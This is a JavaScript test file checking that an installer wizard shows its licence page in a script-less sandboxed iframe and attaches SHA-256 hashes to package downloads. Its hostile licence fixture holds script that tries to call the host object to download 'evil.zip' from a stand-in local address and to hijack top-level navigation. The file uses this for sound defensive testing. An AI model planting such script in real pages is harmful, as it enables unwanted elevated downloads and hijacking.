// What the pages do so that nothing runs elevated unvouched: the licence (Eula.html may be a page
// from the network) is shown in a frame that runs no script and cannot reach the page that holds
// window.external; a package hash from the install parameters travels with the download URL.
"use strict";
const assert = require("node:assert/strict");
const fs = require("node:fs");
const path = require("node:path");
const { after, before, describe, it } = require("node:test");
const { Harness, callsOf, loadPageScripts, pagesDir, waitForHost } = require("./harness");

// A licence that tries everything a script in it could: the host object of its parent, its own
// window.external, and navigating the wizard away.
const HOSTILE_EULA = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Licence</title></head>
<body><h2>Hostile licence text</h2>
<script>
document.documentElement.setAttribute("data-ran", "1");
try { parent.__eulaMarker = "parent"; } catch (e) {}
try { parent.external.download("http://127.0.0.1:1/evil.zip", function () {}); parent.__eulaMarker = "parent.external"; } catch (e) {}
try { window.external.download("http://127.0.0.1:1/evil.zip", function () {}); parent.__eulaMarker = "window.external"; } catch (e) {}
try { top.location = "http://127.0.0.1:1/owned.html"; } catch (e) {}
</script>
</body></html>`;

const agreementHtml = () => fs.readFileSync(path.join(pagesDir, "Agreement.html"), "utf8");

describe("licence frame", () => {
  const harness = new Harness();
  before(() => harness.start());
  after(() => harness.stop());

  // Agreement.html (as staged, or as given) with the hostile licence; the state once the frame
  // has shown its text.
  async function openAgreement(agreement, eulaBody) {
    const page = await harness.open({});
    await page.route("**/Eula.html", (route) =>
      route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: eulaBody || HOSTILE_EULA }));
    if (agreement) {
      await page.route("**/Agreement.html", (route) =>
        route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: agreement }));
    }
    await page.goto(harness.url("Agreement.html"));
    const eula = page.frameLocator("#eula");
    await eula.locator("h2").waitFor();
    // Time for a script that did run to act (a navigation of the top page would start here).
    await page.waitForTimeout(500);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    return {
      page,
      text: await eula.locator("h2").textContent(),
      ran: frame ? await frame.evaluate(() => document.documentElement.getAttribute("data-ran")) : "no frame",
      marker: await page.evaluate(() => window.__eulaMarker === undefined ? null : String(window.__eulaMarker)),
      url: page.url(),
      downloads: (await page.host()).calls.filter((c) => c.name === "download").length,
    };
  }

  it("shows the licence text while none of its script runs", async () => {
    const result = await openAgreement(null);
    assert.equal(result.text, "Hostile licence text");
    assert.equal(result.ran, null, "the licence's script ran");
    assert.equal(result.marker, null, "the licence reached its parent");
    assert.equal(result.downloads, 0);
    assert.match(result.url, /\/Agreement\.html$/);
    await result.page.dispose();
  });

  it("would be reached without the sandbox (the check above can fail)", async () => {
    const open = agreementHtml().replace(/\s(?:sandbox|security)="[^"]*"/g, "");
    assert.notEqual(open, agreementHtml());
    // Without the navigation, which would take the page away before it can be inspected.
    const result = await openAgreement(open, HOSTILE_EULA.replace(/^try \{ top\.location.*$/m, ""));
    assert.equal(result.ran, "1");
    assert.notEqual(result.marker, null);
    await result.page.dispose();
  });

  it("the frame carries sandbox without exceptions and security=\"restricted\"", () => {
    const frames = agreementHtml().match(/<iframe\b[^>]*>/g) || [];
    assert.equal(frames.length, 1);
    assert.match(frames[0], /\bsrc="Eula\.html"/);
    // No allow-scripts, no allow-same-origin, no allow-top-navigation: an empty token list.
    assert.match(frames[0], /\ssandbox=""/);
    // The attribute that older document modes honour; no engine here does, so it is checked here.
    assert.match(frames[0], /\ssecurity="restricted"/);
  });
});

describe("package hash", () => {
  const harness = new Harness();
  before(() => harness.start());
  after(() => harness.stop());
  const { installParams } = loadPageScripts();
  const url = (bits, lang) => installParams.PACKAGE_URL.replace("{OSBITS}", bits).replace("{LANG}", lang);
  const A = "a".repeat(64);
  const B = "0123456789abcdef".repeat(4);

  // The download URLs of a run whose first download answers 2 (so the default package follows),
  // with the given hash table in the install parameters.
  async function downloads(table) {
    const params = fs.readFileSync(path.join(pagesDir, "js", "installparams.js"), "utf8");
    const patched = params.replace(/"PACKAGE_SHA256": \{\}/, '"PACKAGE_SHA256": ' + JSON.stringify(table));
    assert.notEqual(patched, params, "the shipped parameters hold an empty hash table");
    const page = await harness.open({ props: { lang: "it" }, downloadResults: [2, 0], installResults: [0] });
    await page.route("**/js/installparams.js", (route) =>
      route.fulfill({ status: 200, contentType: "application/javascript; charset=utf-8", body: patched }));
    await page.goto(harness.url("Load.html"));
    await page.waitForURL(/Welcome\.html$/);
    await page.click("#btn-install");
    const state = await waitForHost(page, (s) => callsOf(s, "download").length === 2, "two downloads");
    assert.deepEqual(page.errors, []);
    await page.dispose();
    return callsOf(state, "download").map((a) => a[0]);
  }

  it("each listed package's hash goes with its URL, the default package's too", async () => {
    assert.deepEqual(await downloads({ "64/it": A, "32/en": B }),
      [url("64", "it") + "#sha256=" + A, url("32", "en") + "#sha256=" + B]);
  });

  it("an unlisted package is fetched without a fragment", async () => {
    assert.deepEqual(await downloads({ "32/en": B, "64/en": A }), [url("64", "it"), url("32", "en") + "#sha256=" + B]);
  });
});
